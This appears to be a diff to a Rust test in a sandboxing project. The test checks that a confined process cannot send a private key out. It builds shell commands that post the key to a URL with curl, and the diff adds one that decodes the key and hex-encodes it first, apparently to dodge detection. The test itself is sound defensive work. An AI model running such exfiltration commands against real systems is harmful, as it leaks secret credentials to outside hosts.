@@ -228,10 +228,13 @@ lab_tests! {
         let key = fs::read_to_string(&path).expect("the key");
         let lines: Vec<&str> = key.lines().filter(|line| !line.starts_with('-')).collect();
         let tail = lines[lines.len() - 2..].join("\n");
-        let middle = &lines[lines.len() - 2][14..64];
         let mut told = String::new();
-        for text in [tail.as_str(), &tail.replace('\n', ""), &lines.join("\n"), middle] {
-            let script = format!("curl -sS --data-binary '{text}' $URL/");
+        for text in [tail.as_str(), &tail.replace('\n', ""), &lines.join("\n"), "hex"] {
+            let script = if text == "hex" {
+                format!("printf %s '{}' | base64 -d | od -An -v -tx1 | tr -d ' \n' | curl -sS --data-binary @- $URL/", lines.concat())
+            } else {
+                format!("curl -sS --data-binary '{text}' $URL/")
+            };
             // Whatever somebody lets go, a key is never sent.
             let sandbox = confined(lab, Identity::Own).option("--known", "~/.ssh/deploy@drop.example");
             let outcome = sandbox.run(&bash(&script));
